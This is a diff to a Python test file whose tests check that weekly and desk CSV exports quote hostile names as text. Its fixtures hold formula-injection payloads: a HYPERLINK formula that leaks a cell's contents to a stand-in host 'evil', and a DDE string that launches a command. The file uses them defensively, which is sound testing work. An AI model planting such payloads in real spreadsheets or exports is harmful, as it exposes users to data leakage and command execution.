@@ -8,13 +8,13 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
 
-from images import photo_jpeg
 from service.db import utcnow
 from service.models import User
+from service.states import CaseState
 from service.spreadsheets import FORMULA_STARTS, append_row
 from service.weekly import Week, build_weekly_report
 from service.weekly_output import csv_text, workbook
-from test_desk_pages import staff_browser
+from support import staff_browser
 from test_weekly import week_of_cases  # noqa: F401  (the synthetic week 2026-W09, a fixture)
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
@@ -69,9 +69,8 @@ def test_the_weekly_csv_keeps_hostile_names_as_quoted_text(db, week_of_cases, ho
     assert "'" + HYPERLINK in cells and "'+1+cmd|' /C calc'!A0" in cells
 
 
-def test_the_desk_export_keeps_hostile_names_as_quoted_text(app, rider, workers, hostile_names):
-    rider.report(photos=[photo_jpeg(seed=900)], lat="32.015", lon="120.855")
-    workers()
+def test_the_desk_export_keeps_hostile_names_as_quoted_text(app, factory, hostile_names):
+    factory.case_in(CaseState.DISPATCHED, seed=900)
     text = staff_browser(app).get("/desk/export.csv").get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
     assert len(rows) == 2
